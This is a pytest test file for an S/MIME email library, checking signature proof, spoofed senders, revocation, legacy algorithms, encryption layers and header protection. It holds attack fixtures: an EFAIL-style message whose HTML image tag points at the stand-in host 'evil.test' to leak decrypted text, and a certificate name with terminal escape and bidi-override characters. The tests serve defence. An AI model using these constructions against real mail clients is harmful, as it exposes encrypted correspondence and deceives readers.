"""What a signature proves, and every way in which it only seems to."""

from __future__ import annotations

import dataclasses
import datetime

import pytest

from letterlock.formats.asn1 import oids
from letterlock.formats.cms import signed as signed_format
from letterlock.formats.imf.header import read_header
from letterlock.formats.mime.entity import parse
from letterlock.formats.mime.transfer import encode_base64
from letterlock.formats.x509.crl import Reason, Revoked
from letterlock.formats.x509.name import Name
from letterlock.formats.x509.ocsp import CertificateStatus, OcspResponse, encode_request
from letterlock.trust.pkix import issue
from letterlock.trust.pkix.ocsp_check import certificate_id
from letterlock.trust.pkix.path import Anchor
from letterlock.trust.pkix.revocation import Status
from letterlock.trust.policy import Standing
from letterlock.trust.primitives import key_pairs
from letterlock.trust.smime import protect
from letterlock.trust.smime.decrypt import KeyRing
from letterlock.trust.smime.encrypt import To
from letterlock.trust.smime.header_protection import restore
from letterlock.trust.smime.proof import Coverage, Proof, Role, prove
from letterlock.trust.smime.unwrap import WHITE_SPACE, EncryptedLayer, SignedLayer, unwrap


def _sign(people, message: bytes, **options: object) -> bytes:
    return protect.sign_message(message, (people.named("ada").signer,), people.now, token="tok", **options)  # type: ignore[arg-type]


def _prove(people, message: bytes, ring: KeyRing | None = None, **more: object) -> Proof:
    return prove(read_header(message), unwrap(message, ring), people.trust(**more))


@pytest.mark.parametrize("options", [{}, {"opaque": True}, {"protect_header": True}])
def test_a_good_message(people, message: bytes, options: dict[str, object]) -> None:
    """The author's own signature over all of it, under a trusted anchor."""
    proof = _prove(people, _sign(people, message, **options))
    assert (proof.good, proof.coverage, proof.faults) == (True, Coverage.WHOLE, ())
    (signer,) = proof.signers
    assert (signer.address, signer.role, signer.standing) == ("ada@rosewood.test", Role.FROM, Standing.CURRENT)
    assert "ada@rosewood.test" in proof.sentence
    assert "could not be told" in proof.sentence
    assert ("not its header" in proof.sentence) is ("protect_header" not in options)
    assert ("Subject" in proof.protected_fields) is ("protect_header" in options)


def test_the_prepared_text_is_what_was_written(people, message: bytes) -> None:
    """8-bit text, spaces at line ends and From lines travel encoded, and come out as they were."""
    unwrapped = unwrap(_sign(people, message))

    assert unwrapped.content.isascii()
    assert parse(unwrapped.content).content() == "Grüße,  \r\nFrom here on\r\n".encode()


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda m: m.replace(b"From: Ada <ada@", b"From: Bob <bob@"), "is for ada@rosewood.test"),
        (lambda m: b"From: Bob <bob@rosewood.test>\r\n" + m, "2 From fields"),
        (lambda m: m.replace(b"=46rom here", b"=46rom there"), "content was changed"),
        (lambda m: m.replace(b"From: Ada <ada@rosewood.test>\r\n", b""), "from nobody"),
    ],
)
def test_what_is_changed_outside_or_inside_is_not_proved(people, message: bytes, change, reason: str) -> None:
    """The verdict names the reason."""
    proof = _prove(people, change(_sign(people, message)))
    assert not proof.good
    assert any(reason in fault for fault in proof.faults), proof.faults


def test_the_sender_is_named_as_such(people, message: bytes) -> None:
    """A certificate for the Sender proves the Sender, not the author."""
    other = message.replace(b"From: Ada <ada@rosewood.test>", b"From: boss@rosewood.test\r\nSender: ada@rosewood.test")
    proof = _prove(people, _sign(people, other))
    assert (proof.good, proof.signers[0].role) == (True, Role.SENDER)
    assert "not as its author" in proof.sentence


def test_a_protected_from_must_be_the_one_shown(people, message: bytes) -> None:
    """With header protection the From outside cannot be exchanged."""
    protected = _sign(people, message, protect_header=True)
    head, body = protected.split(b"\r\n\r\n", 1)
    proof = _prove(people, head.replace(b"Ada <ada@", b"Bob <bob@") + b"\r\n\r\n" + body)
    assert "the From outside is not the From that was protected" in proof.faults


def test_a_signature_over_a_part_is_told(people, message: bytes) -> None:
    """A footer beside a signed part: only the part is signed, and no tick for the rest."""
    inner = _sign(people, message).split(b"MIME-Version: 1.0\r\n", 1)[1]
    wrapped = (
        b"From: ada@rosewood.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
        + inner + b"\r\n--x\r\n\r\nSend money to the address below.\r\n--x--\r\n"
    )  # fmt: skip
    proof = _prove(people, wrapped)
    assert (proof.good, proof.coverage) == (False, Coverage.PART)
    assert "Only a part" in proof.sentence


def _with_signature(people, message: bytes, cms: bytes) -> bytes:
    whole = _sign(people, message)
    at = whole.index(b"Content-Description: S/MIME signature\r\n\r\n") + len(
        b"Content-Description: S/MIME signature\r\n\r\n"
    )
    return whole[:at] + encode_base64(cms) + b"\r\n--=_tok_s--\r\n"


def test_content_inside_a_detached_signature_is_refused(people, message: bytes) -> None:
    """A signature that brings its own content would be checked over that, and not over what is shown."""
    from letterlock.trust.smime.sign import sign

    attached = sign(b"something harmless", (people.named("ada").signer,), people.now)
    proof = _prove(people, _with_signature(people, message, attached))
    assert not proof.good
    assert any("content of its own" in fault for fault in proof.faults)


def test_a_signature_by_nobody_proves_nothing(people, message: bytes) -> None:
    """No signerInfos at all: valid in form, and empty."""
    empty = signed_format.encode(oids.DATA, None, (), ())
    proof = _prove(people, _with_signature(people, message, empty))
    assert not proof.good
    assert "nobody signed this signed message" in proof.faults


@pytest.mark.parametrize("parts", [1, 3])
def test_a_multipart_signed_has_two_parts(people, message: bytes, parts: int) -> None:
    """Neither fewer nor more, lest readers show different ones."""
    whole = _sign(people, message)
    if parts == 3:
        whole = whole.replace(b"\r\n--=_tok_s--", b"\r\n--=_tok_s\r\n\r\nMore.\r\n--=_tok_s--")
    else:
        whole = whole[: whole.index(b"\r\n--=_tok_s\r\nContent-Type: application/pkcs7")] + b"\r\n--=_tok_s--\r\n"
    proof = _prove(people, whole)
    assert f"of {parts} parts" in proof.faults[0]


def test_white_space_changed_on_the_way_is_named(people) -> None:
    """A transport that pads lines breaks the signature; the reason says what happened."""
    plain = b"From: ada@rosewood.test\r\n\r\nOne\r\nTwo\r\n"
    broken = _sign(people, plain).replace(b"One\r\n", b"One \r\n")
    proof = _prove(people, broken)
    assert not proof.good
    assert WHITE_SPACE in proof.faults


def test_line_ends_of_files_do_not_matter(people, message: bytes) -> None:
    """A message stored with LF verifies."""
    assert _prove(people, _sign(people, message).replace(b"\r\n", b"\n")).good


def test_an_unknown_anchor(people, message: bytes) -> None:
    """A certificate from nowhere proves nothing."""
    signed = _sign(people, message)
    proof = prove(read_header(signed), unwrap(signed), dataclasses.replace(people.trust(), anchors=()))
    assert not proof.good
    assert "no path leads" in proof.faults[0]


def test_expired_now_is_not_expired_then(people, message: bytes) -> None:
    """Two years later the signature is told to be one that was valid, by the signer's own word."""
    later = dataclasses.replace(people.trust(), when=people.now + datetime.timedelta(days=800))
    signed = _sign(people, message)
    proof = prove(read_header(signed), unwrap(signed), later)
    assert not proof.good
    assert proof.signers[0].expired_since_signing
    assert "was valid when the signer says it signed" in proof.faults[0]


def _list(people, *entries: Revoked):
    until = people.now + datetime.timedelta(days=7)
    return issue.revocation_list(people.authority, entries, 1, people.now, until)


def test_revocation_by_list(people, message: bytes) -> None:
    """On the list, not on it, and a list gone stale."""
    signed = _sign(people, message)
    clean = _prove(people, signed, crls=(_list(people),))
    assert (clean.good, clean.signers[0].revocation) == (True, Status.GOOD)
    assert "was not revoked" in clean.sentence
    entry = Revoked(people.named("ada").certificate.serial, people.now, Reason.KEY_COMPROMISE)
    revoked = _prove(people, signed, crls=(_list(people, entry),))
    assert (revoked.good, revoked.signers[0].revocation) == (False, Status.REVOKED)
    assert "key compromise" in revoked.faults[0]
    stale = dataclasses.replace(
        people.trust(crls=(_list(people, entry),)), when=people.now + datetime.timedelta(days=8)
    )
    told = prove(read_header(signed), unwrap(signed), stale)
    assert told.signers[0].revocation is Status.UNKNOWN
    strict = prove(read_header(signed), unwrap(signed), dataclasses.replace(stale, require_revocation=True))
    assert (told.good, strict.good) == (True, False)


@pytest.mark.parametrize("status", [CertificateStatus.GOOD, CertificateStatus.REVOKED, CertificateStatus.UNKNOWN])
def test_revocation_by_ocsp(people, message: bytes, status: CertificateStatus) -> None:
    """The responder's three answers."""
    ada = people.named("ada").certificate
    asked = certificate_id(ada.issuer, people.authority.key.public, ada.serial)
    told = Revoked(ada.serial, people.now) if status is CertificateStatus.REVOKED else status
    until = people.now + datetime.timedelta(hours=1)
    octets = issue.answer_ocsp(
        people.authority, encode_request((asked,), b"nonce"), lambda _serial: told, people.now, until
    )
    proof = _prove(people, _sign(people, message), ocsp=(OcspResponse.parse(octets),))
    expected = {"GOOD": Status.GOOD, "REVOKED": Status.REVOKED, "UNKNOWN": Status.UNKNOWN}[status.name]
    assert (proof.signers[0].revocation, proof.good) == (expected, status is not CertificateStatus.REVOKED)


def test_an_ocsp_answer_of_a_stranger_is_not_believed(people, message: bytes) -> None:
    """Signed by nobody entitled to: as if there were none."""
    stranger = issue.found(key_pairs.generate("p256"), people.authority.certificate.subject, people.now, 10, 5)
    ada = people.named("ada").certificate
    asked = certificate_id(ada.issuer, stranger.key.public, ada.serial)
    until = people.now + datetime.timedelta(hours=1)
    octets = issue.answer_ocsp(stranger, encode_request((asked,)), lambda _s: CertificateStatus.GOOD, people.now, until)
    proof = _prove(people, _sign(people, message), ocsp=(OcspResponse.parse(octets),))
    assert proof.signers[0].revocation is Status.UNKNOWN


def test_old_algorithms_are_marked(people, message: bytes) -> None:
    """SHA-1 is legacy: not good unless legacy is accepted; MD5 never."""
    for digest, standing, accepted in ((oids.SHA1, Standing.LEGACY, True), (oids.MD5, Standing.REFUSED, False)):
        signer = dataclasses.replace(people.named("ada", "rsa2048").signer, digest=digest)
        signed = protect.sign_message(message, (signer,), people.now, token="t")
        proof = _prove(people, signed)
        assert (proof.good, proof.signers[0].standing) == (False, standing)
        assert _prove(people, signed, accept_legacy=True).good is accepted


def test_a_certificate_for_something_else(people, message: bytes) -> None:
    """A key for encryption alone does not sign mail."""
    key = key_pairs.generate("p256")
    usages = issue.usages_of(key.public, signing=False)
    certificate = issue.certify(
        people.authority, key.public, Name.make(CN="Ada"), ("ada@rosewood.test",), usages,
        when=people.now, days=5, serial=77,
    )  # fmt: skip
    signer = dataclasses.replace(people.named("ada").signer, key=key, certificate=certificate)
    proof = _prove(people, protect.sign_message(message, (signer,), people.now, token="t"))
    assert "the certificate's key is not for signing" in proof.faults


def test_encryption_alone_proves_nobody(people, message: bytes) -> None:
    """Everybody can encrypt to a certificate."""
    bob = people.named("bob")
    sealed = protect.encrypt_message(message, (To(bob.certificate),))
    proof = _prove(people, sealed, bob.ring)
    assert (proof.good, proof.encrypted) == (False, True)
    assert "it is not signed" in proof.sentence


@pytest.mark.parametrize("cipher", [oids.AES256_GCM, oids.AES128_CBC])
def test_triple_wrapping(people, message: bytes, cipher: str) -> None:
    """Signed, encrypted, signed, compressed in between: every layer is opened and the author proved."""
    bob = people.named("bob")
    inner = protect.compress_message(_sign(people, message, protect_header=True))
    sealed = protect.encrypt_message(inner, (To(bob.certificate),), cipher=cipher, protect_header=True)
    assert b"Secret plans" not in sealed
    outer = _sign(people, sealed, opaque=True)
    proof = _prove(people, outer, bob.ring)
    assert proof.good, proof.faults
    assert len(proof.layers) == 4
    assert any("does not show changes" in note for note in proof.warnings) is (cipher == oids.AES128_CBC)


def test_a_protected_subject_comes_back(people, message: bytes) -> None:
    """Obscured outside, restored for the reader."""
    bob = people.named("bob")
    sealed = protect.encrypt_message(message, (To(bob.certificate),), protect_header=True)
    assert b"Subject: [...]" in sealed
    unwrapped = unwrap(sealed, bob.ring)
    restored = restore(b"From: x@y\r\nSubject: [...]\r\n", unwrapped.content)
    assert read_header(restored).text("subject") == "Secret plans"
    assert read_header(restored).text("from") == "Ada <ada@rosewood.test>"
    assert b"HP-Outer" not in restored


def test_nothing_is_decrypted_between_other_parts(people) -> None:
    """EFAIL's direct exfiltration: an encrypted part inside somebody's HTML is not opened in place."""
    bob = people.named("bob")
    secret = protect.encrypt_message(b"Subject: x\r\n\r\nthe secret\r\n", (To(bob.certificate),))
    part = secret.split(b"MIME-Version: 1.0\r\n", 1)[1]
    attack = (
        b"From: eve@evil.test\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
        b'<img src="http://evil.test/\r\n--x\r\n' + part + b'\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'
    )
    unwrapped = unwrap(attack, bob.ring)
    assert unwrapped.layers == ()
    assert b"the secret" not in unwrapped.content
    ((number, inner),) = unwrapped.parts
    (layer,) = inner.layers
    assert isinstance(layer, EncryptedLayer)
    assert (number, layer.opened) == ("2", None)


def test_changed_cipher_text_gives_no_plain_text(people, message: bytes) -> None:
    """With GCM a changed message opens to nothing at all."""
    bob = people.named("bob")
    sealed = protect.encrypt_message(message, (To(bob.certificate),))
    lines = sealed.split(b"\r\n")
    lines[-4] = lines[-4][::-1]
    unwrapped = unwrap(b"\r\n".join(lines), bob.ring)
    assert unwrapped.fault
    assert "Grüße".encode() not in unwrapped.content


def test_control_characters_in_names_are_shown_escaped(people, message: bytes) -> None:
    """A certificate cannot write on the reader's terminal."""
    key = key_pairs.generate("p256")
    certificate = issue.certify(
        people.authority, key.public, Name.make(CN="Ada\x1b[2J\u202eevil"), ("ada@rosewood.test",),
        issue.usages_of(key.public), when=people.now, days=5, serial=78,
    )  # fmt: skip
    signer = dataclasses.replace(people.named("ada").signer, key=key, certificate=certificate)
    proof = _prove(people, protect.sign_message(message, (signer,), people.now, token="t"))
    assert proof.good
    assert proof.signers[0].subject.isprintable()


def test_an_anchor_may_be_the_certificate_itself(people, message: bytes) -> None:
    """Somebody's own certificate, trusted by the user, needs no authority."""
    trust = dataclasses.replace(people.trust(), anchors=(Anchor.of(people.named("ada").certificate),))
    signed = _sign(people, message)
    assert prove(read_header(signed), unwrap(signed), trust).good


def test_too_many_layers_are_refused(people, message: bytes) -> None:
    """Compression within compression ends."""
    nested = message.replace(b"Content-Transfer-Encoding: 8bit\r\n", b"").replace("ü".encode(), b"u")
    nested = nested.replace("ß".encode(), b"s")
    from letterlock.formats.cms.compressed import CompressedData
    from letterlock.trust.smime.compress import compress
    from letterlock.trust.smime.entities import wrap

    assert CompressedData is not None
    entity = nested
    for _ in range(18):
        entity = wrap(b"", compress(entity), "compressed-data")
    assert "more than 16 layers" in unwrap(entity).fault


def test_a_signed_layer_is_listed_once(people, message: bytes) -> None:
    """The layers of a plain signed message: one."""
    (layer,) = unwrap(_sign(people, message)).layers
    assert isinstance(layer, SignedLayer)


def test_binary_content_is_not_touched(people) -> None:
    """A binary attachment with bare line feeds comes out of signature and encryption as it went in."""
    body = bytes(range(256)) * 3
    head = b"From: ada@rosewood.test\r\nMIME-Version: 1.0\r\nContent-Type: image/x\r\nContent-Transfer-Encoding: binary\r\n\r\n"
    bob = people.named("bob")
    signed = _sign(people, head + body)
    sealed = protect.encrypt_message(head + body, (To(bob.certificate),))
    for message, ring in ((signed, None), (sealed, bob.ring)):
        assert parse(unwrap(message, ring).content).content() == body


def test_a_message_with_two_faces_is_not_proved(people) -> None:
    """Two Content-Type fields inside: one reader shows one message, another another."""
    message = b"From: ada@rosewood.test\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Type: text/html\r\n\r\nHi\r\n"
    proof = _prove(people, _sign(people, message, opaque=True))
    assert not proof.good
    assert any("two readers" in fault for fault in proof.faults)
